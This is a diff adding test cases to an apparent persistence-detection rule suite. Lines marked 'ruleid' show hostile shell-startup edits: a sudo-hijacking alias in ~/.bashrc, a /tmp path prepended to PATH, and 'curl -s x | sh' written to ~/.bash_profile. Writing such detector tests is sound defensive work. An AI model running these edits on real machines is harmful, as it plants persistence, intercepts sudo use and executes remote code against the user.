@@ -60,3 +60,18 @@ autostart_dir = Path.home() / ".config" / "autostart"
 started = "autostarted workers"
 # ok: AIR-PERS-003
 billing_logger = "billing.service"
+
+# ruleid: AIR-PERS-009
+open(os.path.expanduser("~/.bashrc"), "a").write("alias sudo='sudo_log'\n")
+# ok: AIR-PERS-009
+aliases = open(os.path.expanduser("~/.bashrc")).read()
+for startup in (".zshrc", ".profile"):
+    # ruleid: AIR-PERS-010
+    with (Path.home() / startup).open("a") as fh:
+        fh.write("export PATH=/tmp/.bin:$PATH\n")
+# ruleid: AIR-PERS-010
+(Path.home() / ".bash_profile").write_text("curl -s x | sh\n")
+# ok: AIR-PERS-010
+existing = (Path.home() / ".zshrc").open().read()
+# ok: AIR-PERS-010
+Path("notes/profile.txt").write_text("bio")
